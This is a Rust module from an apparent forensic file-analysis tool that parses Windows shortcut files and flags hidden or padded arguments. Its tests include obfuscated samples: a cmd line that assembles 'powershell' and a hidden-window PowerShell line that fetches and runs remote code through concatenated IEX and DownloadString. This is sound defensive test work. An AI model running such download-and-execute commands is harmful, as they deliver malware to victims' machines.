//! Shortcuts of Windows (MS-SHLLINK): what is started with which arguments, and what the machine left in them on which
//! they were made.

mod command;

use crate::budget::Budget;
use crate::bytes::{array, slice, u16_le, u32_le, u64_le};
use crate::gather::{Gathered, text};
use crate::names::{self, until_zero, utf16};
use crate::ole::{class_text, time};
use crate::reading::{Child, Reading, Storage};
use crate::unpack::damaged;
use crate::vector::{State, Value, vectors};
use model::Message;

vectors! { "lnk":
    "target" text "Path of the target.";
    "relative_path" text "Path of the target as seen from the shortcut.";
    "working_directory" text "Folder in which it is started.";
    "arguments" text "Arguments.";
    "description" text "Description.";
    "icon" text "Where its icon is.";
    "icon_index" integer "Which icon of that file.";
    "environment_target" text "Path of the target with variables.";
    "flags" integer "Flags of the header.";
    "attributes" integer "Attributes of the target.";
    "size" integer "Size of the target.";
    "show" integer "How its window is shown: 1 usual, 3 maximised, 7 minimised.";
    "hot_key" integer "Keys that start it.";
    "created" time "When the target was made.";
    "accessed" time "When the target was last opened.";
    "modified" time "When the target was last changed.";
    "drive_type" integer "Type of the drive: 2 removable, 3 fixed, 4 remote, 5 optical.";
    "drive_serial" text "Serial number of the drive.";
    "volume_label" text "Label of the drive.";
    "network_share" text "Share on which the target is.";
    "machine_id" text "Name of the machine on which it was made.";
    "droid_volume" text "Identifier of the drive.";
    "droid_file" text "Identifier of the target.";
    "mac" text "Address of a network card of that machine, from the identifier of the target.";
    "items" texts "Names in the list of items that leads to the target.";
    "blocks" texts "Blocks of further data, by number.";
    "known_folder" text "Identifier of a folder that the target is in.";
    "special_folder" integer "Number of a folder that the target is in.";
}

const HEADER_BYTES: usize = 76;
/// Items of the list, and blocks behind everything.
const ENTRIES_MAX: usize = 256;
/// Arguments beyond which nothing shows them.
const ARGUMENTS_SHOWN: usize = 260;

/// Takes a shortcut apart.
pub fn read(bytes: &[u8], budget: &mut Budget) -> Reading {
    let mut reading = Reading::default();
    let flags = u32_le(bytes, 20).unwrap_or(0);
    if header(bytes, flags, &mut reading).is_none() {
        reading.state(NAMESPACE, "flags", State::Failed(damaged()), None);
        return reading;
    }
    let mut at = HEADER_BYTES;
    if body(bytes, flags, &mut at, &mut reading).is_none() {
        reading.state(NAMESPACE, "target", State::Failed(damaged()), Some(at as u64));
        command_line(budget, &mut reading);
        return reading;
    }
    let end = blocks(bytes, at, &mut reading);
    command_line(budget, &mut reading);
    if end < bytes.len() {
        let count = i64::try_from(bytes.len() - end).unwrap_or(i64::MAX);
        reading.odd_at(Message::new("lnk.data-behind").number("bytes", count), end as u64);
        // A limit is a fact by then.
        let _ = reading.child(budget, Child::range("", end..bytes.len()));
    }
    reading
}

fn header(bytes: &[u8], flags: u32, reading: &mut Reading) -> Option<()> {
    let head = slice(bytes, 0, HEADER_BYTES)?;
    reading.know_at(NAMESPACE, "flags", flags, 20);
    reading.know_at(NAMESPACE, "attributes", u32_le(head, 24)?, 24);
    for (at, name) in [(28, "created"), (36, "accessed"), (44, "modified")] {
        reading.state(NAMESPACE, name, time(u64_le(head, at)?), Some(at as u64));
    }
    reading.know_at(NAMESPACE, "size", u32_le(head, 52)?, 52);
    reading.know_at(NAMESPACE, "icon_index", i64::from(u32_le(head, 56)? as i32), 56);
    reading.know_at(NAMESPACE, "show", u32_le(head, 60)?, 60);
    reading.know_at(NAMESPACE, "hot_key", u32::from(u16_le(head, 64)?), 64);
    Some(())
}

/// The list of items, where the target is, and the texts; none when they are cut off.
fn body(bytes: &[u8], flags: u32, at: &mut usize, reading: &mut Reading) -> Option<()> {
    if flags & 1 != 0 {
        let length = usize::from(u16_le(bytes, *at)?);
        items(slice(bytes, *at + 2, length)?, reading);
        *at += 2 + length;
    }
    if flags & 2 != 0 && flags & 0x100 == 0 {
        let length = u32_le(bytes, *at)? as usize;
        let info = slice(bytes, *at, length).filter(|_| length >= 28)?;
        // Half of it is better than nothing.
        let _ = place(info, reading);
        *at += length;
    }
    let wide = flags & 0x80 != 0;
    for (bit, name) in
        [(4, "description"), (8, "relative_path"), (16, "working_directory"), (32, "arguments"), (64, "icon")]
    {
        if flags & bit == 0 {
            continue;
        }
        let count = usize::from(u16_le(bytes, *at)?);
        let length = if wide { count * 2 } else { count };
        let raw = slice(bytes, *at + 2, length)?;
        let value = if wide { utf16(raw) } else { names::decode(until_zero(raw)) };
        if name == "arguments" {
            arguments(&value, *at, reading);
        }
        text(reading, NAMESPACE, name, value);
        *at += 2 + length;
    }
    Some(())
}

/// Arguments that are written so that the window of properties does not show them.
fn arguments(value: &str, at: usize, reading: &mut Reading) {
    if value.len() > ARGUMENTS_SHOWN {
        let count = i64::try_from(value.len()).unwrap_or(i64::MAX);
        reading.odd_at(Message::new("lnk.long-arguments").number("letters", count), at as u64);
    }
    let blanks = value.split(|letter: char| !letter.is_whitespace()).map(str::len).max().unwrap_or(0);
    if blanks >= 16 {
        let count = i64::try_from(blanks).unwrap_or(i64::MAX);
        reading.odd_at(Message::new("lnk.padded-arguments").number("blanks", count), at as u64);
    }
}

/// The arguments as a part, where they are a script of the program that is started.
fn command_line(budget: &mut Budget, reading: &mut Reading) {
    let text = |name| match reading.value(NAMESPACE, name) {
        Some(Value::Text(text)) => Some(text.as_str()),
        Some(Value::Texts(texts)) => texts.last().map(String::as_str),
        _ => None,
    };
    let Some(arguments) = text("arguments") else { return };
    // What is started is the first of these that is told; the others may be there to mislead whoever looks at it.
    let programs = ["environment_target", "target", "items", "relative_path"];
    let found = programs.iter().filter_map(|name| text(name)).find_map(|program| command::script(program, arguments));
    if let Some(command::Script { extension, source }) = found {
        // A limit is a fact by then.
        let _ = reading.child(budget, Child::made(format!("arguments.{extension}"), source, Storage::Plain));
    }
}

fn items(list: &[u8], reading: &mut Reading) {
    let (mut names, mut at) = (Gathered::new(ENTRIES_MAX), 0);
    for _ in 0..ENTRIES_MAX {
        let Some(length) = u16_le(list, at).map(usize::from).filter(|length| *length >= 3) else { break };
        let Some(item) = slice(list, at, length) else { break };
        match item[2] & 0x70 {
            0x20 => names.push(names::decode(until_zero(item.get(3..).unwrap_or_default()))),
            0x30 => names.push(file_item(item)),
            0x40 => names.push(names::decode(until_zero(item.get(5..).unwrap_or_default()))),
            0x10 if length >= 20 => names.push(array(item, 4).map(|class| class_text(&class)).unwrap_or_default()),
            _ => names.push(format!("{:02x}", item[2])),
        }
        at += length;
    }
    names.state(reading, NAMESPACE, "items");
}

/// A file or folder: its long name stands in a block of its own behind the short one.
fn file_item(item: &[u8]) -> String {
    let long = memchr::memmem::find(item, &[4, 0, 0xef, 0xbe]).and_then(|found| {
        let block = item.get(found.checked_sub(4)?..)?;
        let version = u16_le(block, 2)?;
        let at = match version {
            3 => 20,
            7 => 38,
            8 => 42,
            _ => 46,
        };
        let name = utf16(block.get(at..)?);
        (!name.is_empty()).then_some(name)
    });
    let wide = item[2] & 4 != 0;
    long.unwrap_or_else(|| {
        let raw = item.get(14..).unwrap_or_default();
        if wide { utf16(raw) } else { names::decode(until_zero(raw)) }
    })
}

/// The drive and path of the target, or its share.
fn place(info: &[u8], reading: &mut Reading) -> Option<()> {
    let header = u32_le(info, 4)?;
    let flags = u32_le(info, 8)?;
    let at = |field: usize| u32_le(info, field).map(|at| at as usize);
    let local = |at: usize| info.get(at..).map(|raw| names::decode(until_zero(raw)));
    let wide = |field: usize| at(field).filter(|at| *at > 0 && header >= 0x24).and_then(|at| info.get(at..)).map(utf16);
    let suffix = wide(32).or_else(|| local(at(24)?)).unwrap_or_default();
    if flags & 1 != 0 {
        let base = wide(28).or_else(|| local(at(16)?)).unwrap_or_default();
        text(reading, NAMESPACE, "target", base + &suffix);
        let volume = info.get(at(12)?..)?;
        reading.know(NAMESPACE, "drive_type", u32_le(volume, 4)?);
        text(reading, NAMESPACE, "drive_serial", format!("{:08x}", u32_le(volume, 8)?));
        let label = u32_le(volume, 12)? as usize;
        let label = if label == 0x14 {
            utf16(volume.get(u32_le(volume, 16)? as usize..)?)
        } else {
            names::decode(until_zero(volume.get(label..)?))
        };
        text(reading, NAMESPACE, "volume_label", label);
    }
    if flags & 2 != 0 {
        let share = info.get(at(20)?..)?;
        let name = names::decode(until_zero(share.get(u32_le(share, 8)? as usize..)?));
        if flags & 1 == 0 {
            text(reading, NAMESPACE, "target", format!("{name}\\{suffix}"));
        }
        text(reading, NAMESPACE, "network_share", name);
    }
    Some(())
}

/// Blocks of further data; gives where they end.
fn blocks(bytes: &[u8], mut at: usize, reading: &mut Reading) -> usize {
    let mut numbers = Gathered::new(ENTRIES_MAX);
    for _ in 0..ENTRIES_MAX {
        let Some(length) = u32_le(bytes, at).map(|length| length as usize) else {
            at = bytes.len();
            break;
        };
        if length < 8 {
            at += 4;
            break;
        }
        let Some(block) = slice(bytes, at, length) else {
            reading.odd_at(Message::new("lnk.block-cut-off"), at as u64);
            at = bytes.len();
            break;
        };
        numbers.push(format!("{:08x}", u32_le(block, 4).unwrap_or(0)));
        // A block that is cut short leaves out what it would say.
        let _ = further(block, reading);
        at += length;
    }
    numbers.state(reading, NAMESPACE, "blocks");
    at
}

fn further(block: &[u8], reading: &mut Reading) -> Option<()> {
    match u32_le(block, 4)? {
        0xa000_0003 => {
            text(reading, NAMESPACE, "machine_id", names::decode(until_zero(slice(block, 16, 16)?)));
            let file: [u8; 16] = array(block, 48)?;
            text(reading, NAMESPACE, "droid_volume", class_text(&array(block, 32)?));
            text(reading, NAMESPACE, "droid_file", class_text(&file));
            // Identifiers of version 1 end with the address of a card.
            if file[7] >> 4 == 1 {
                let mac: Vec<String> = file[10..].iter().map(|byte| format!("{byte:02x}")).collect();
                text(reading, NAMESPACE, "mac", mac.join(":"));
            }
        }
        0xa000_0001 => {
            let wide = utf16(slice(block, 268, 520)?);
            let target = if wide.is_empty() { names::decode(until_zero(slice(block, 8, 260)?)) } else { wide };
            text(reading, NAMESPACE, "environment_target", target);
        }
        0xa000_0005 => reading.know(NAMESPACE, "special_folder", u32_le(block, 8)?),
        0xa000_000b => text(reading, NAMESPACE, "known_folder", class_text(&array(block, 8)?)),
        _ => {}
    }
    Some(())
}

#[cfg(test)]
mod tests {
    use crate::kit::{apart, shared, told, tree};
    use expect_test::expect;

    #[test]
    fn a_shortcut_tells_what_it_starts() {
        let mut bytes = vec![0_u8; 76];
        bytes[..20].copy_from_slice(b"L\0\0\0\x01\x14\x02\0\0\0\0\0\xc0\0\0\0\0\0\0F");
        bytes[20] = 0xa0;
        bytes[60] = 7;
        let arguments = format!("/c{}echo hello", " ".repeat(300));
        bytes.extend((arguments.len() as u16).to_le_bytes());
        bytes.extend(arguments.encode_utf16().flat_map(u16::to_le_bytes));
        bytes.extend([0; 4]);
        bytes.extend(b"something behind");
        let part = apart(&bytes);
        expect![[r#"
            x | lnk 722
              ! lnk.long-arguments letters=312 @76
              ! lnk.padded-arguments blanks=300 @76
              ! lnk.data-behind bytes=16 @706
              txt 16
        "#]]
        .assert_eq(&tree(&part));
    }

    #[test]
    fn what_a_shell_is_told_is_a_script() {
        let check = |program: &str, arguments: &str, expected: expect_test::Expect| {
            let mut bytes = vec![0_u8; 76];
            bytes[..20].copy_from_slice(b"L\0\0\0\x01\x14\x02\0\0\0\0\0\xc0\0\0\0\0\0\0F");
            bytes[20] = 0xa8;
            for text in [program, arguments] {
                bytes.extend((text.encode_utf16().count() as u16).to_le_bytes());
                bytes.extend(text.encode_utf16().flat_map(u16::to_le_bytes));
            }
            bytes.extend([0; 4]);
            let part = apart(&bytes);
            let scripts = part.children.iter().map(|script| told(script, "script"));
            expected.assert_eq(&(tree(&part) + &scripts.collect::<String>()));
        };
        check(
            r"..\Windows\System32\cmd.exe",
            "/c \"set x=power&& set y=sh^ell&& call %x%%y% -nop\"",
            expect![[r#"
            x | lnk 238
              arguments.bat | txt 53
                ! layer.hidden-calls calls=List(["powershell"])
                put-together.bat | txt 56 | pieces
            script.language = "batch"
            script.lines = 2
            script.longest_line = 45
            script.entropy = 4.31
            script.put_together = 3
            script.hidden_calls = ["powershell"]
            script.calls = ["cmd /c"]
        "#]],
        );
        check(
            r"..\powershell.exe",
            "-w hidden -c \"&('I'+'EX') (New-Object Net.WebClient).('Down'+'loadString')('http://example.org/a')\"",
            expect![[r#"
                x | lnk 316
                  arguments.ps1 | txt 109
                    ! layer.hidden-calls calls=List(["downloadstring", "iex"])
                    put-together.ps1 | txt 99 | pieces
                script.language = "powershell"
                script.lines = 2
                script.longest_line = 84
                script.entropy = 4.934
                script.urls = ["http://example.org/a"]
                script.put_together = 2
                script.hidden_calls = ["downloadstring", "iex"]
                script.calls = ["net.webclient", "-w hidden", "new-object", "powershell"]
            "#]],
        );
        check(
            r"..\notepad.exe",
            "a.txt",
            expect![[r#"
            x | lnk 122
        "#]],
        );
    }

    #[test]
    fn real_shortcuts_are_read() {
        for (name, expected) in [
            (
                "test.lnk",
                expect![[r#"
            lnk.flags = 524443
            lnk.attributes = 32
            lnk.created = 1221251237s
            lnk.accessed = 1221251237s
            lnk.modified = 1221251237s
            lnk.size = 0
            lnk.icon_index = 0
            lnk.show = 1
            lnk.hot_key = 0
            lnk.items = ["20d04fe0-3aea-1069-a2d8-08002b30309d", "C:\\", "test", "a.txt"]
            lnk.target = "C:\\test\\a.txt"
            lnk.drive_type = 3
            lnk.drive_serial = "307a8a81"
            lnk.relative_path = ".\\a.txt"
            lnk.working_directory = "C:\\test"
            lnk.machine_id = "chris-xps"
            lnk.droid_volume = "94c77840-fa47-46c7-b356-5c2dc6b6d115"
            lnk.droid_file = "7bcd46ec-7f22-11dd-9499-00137216874a"
            lnk.mac = "00:13:72:16:87:4a"
            lnk.blocks = ["a0000003"]
        "#]],
            ),
            (
                "Windows_PowerShell.lnk",
                expect![[r#"
            lnk.flags = 735
            lnk.attributes = 32
            lnk.created = 1343266004s
            lnk.accessed = 1343266004s
            lnk.modified = 1343272850s
            lnk.size = 454656
            lnk.icon_index = 0
            lnk.show = 1
            lnk.hot_key = 0
            lnk.items = ["20d04fe0-3aea-1069-a2d8-08002b30309d", "C:\\", "Windows", "System32", "WindowsPowerShell", "v1.0", "powershell.exe"]
            lnk.target = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"
            lnk.drive_type = 3
            lnk.drive_serial = "74ee2d73"
            lnk.volume_label = "OSDisk"
            lnk.description = "Performs object-based (command-line) functions"
            lnk.relative_path = "..\\..\\..\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"
            lnk.working_directory = "%HOMEDRIVE%%HOMEPATH%"
            lnk.icon = "%SystemRoot%\\system32\\WindowsPowerShell\\v1.0\\powershell.exe"
            lnk.environment_target = "%SystemRoot%\\system32\\WindowsPowerShell\\v1.0\\powershell.exe"
            lnk.special_folder = 37
            lnk.known_folder = "1ac14e77-02e7-4e5d-b744-2eb1ae5198b7"
            lnk.machine_id = "leeholm16"
            lnk.droid_volume = "bbb29a9a-55b6-4a2d-88eb-32ead77c6740"
            lnk.droid_file = "5c2307d9-3369-11e2-be70-001cc42df40b"
            lnk.mac = "00:1c:c4:2d:f4:0b"
            lnk.blocks = ["a0000001", "a0000005", "a000000b", "a0000003", "a0000002", "a0000009"]
        "#]],
            ),
        ] {
            let Some(bytes) = shared(name) else { return };
            expected.assert_eq(&told(&apart(&bytes), "lnk"));
        }
    }
}
